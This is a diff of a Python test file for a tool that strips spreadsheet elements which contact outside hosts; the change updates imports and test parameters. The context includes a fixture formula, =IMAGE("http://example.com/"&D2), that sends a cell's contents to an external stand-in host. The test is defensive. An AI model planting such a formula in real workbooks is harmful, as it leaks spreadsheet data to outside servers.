@@ -14,8 +14,8 @@ from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.worksheet.datavalidation import DataValidation
 from openpyxl.worksheet.formula import ArrayFormula
 
-from recovery_docs.batch.loaded import copy_of
-from recovery_docs.batch.outside import may_reach_out, reaches_out
+from recovery_docs.batch.returned.returned_workbook import write_marked
+from recovery_docs.spreadsheet.external_references import may_reach_out, reaches_out
 
 OUTSIDE = (
     '=IMAGE("http://example.com/"&D2)',
@@ -167,11 +167,11 @@ def _around(book: Workbook) -> None:
         sheet.conditional_formatting.add("A3:A9", FormulaRule([formula]))
 
 
-@pytest.mark.parametrize("way", ["streamed", "loaded"])
+@pytest.mark.parametrize("way", ["batch", "check"])
 def test_names_formats_and_validations_that_reach_out_are_taken_away_and_told(tmp_path: Path, way: str) -> None:
     path = _with_sheet(tmp_path / "台账.xlsx", _around)
-    if way == "loaded":
-        copy_of(path).save(tmp_path / "写.xlsx")
+    if way == "check":
+        write_marked(path, tmp_path / "写.xlsx", (), "zh")
         book = load_workbook(tmp_path / "写.xlsx")
     else:
         book = _returned(tmp_path, _around)
